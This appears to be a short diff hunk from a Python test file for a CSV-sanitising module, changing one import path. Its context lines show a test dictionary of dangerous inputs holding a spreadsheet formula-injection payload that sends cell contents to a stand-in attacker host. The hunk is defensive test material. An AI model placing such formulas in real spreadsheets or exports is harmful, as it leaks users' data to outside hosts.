@@ -17,7 +17,7 @@ import stats_data
 from demine.cli.app import app as cli
 from demine.io.csvsafe import safe_cell, unquote_cell
 from demine.services.setup import init_store
-from demine.store.base import open_store
+from demine.store.open import open_store
 
 DANGEROUS = {
     "eq": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
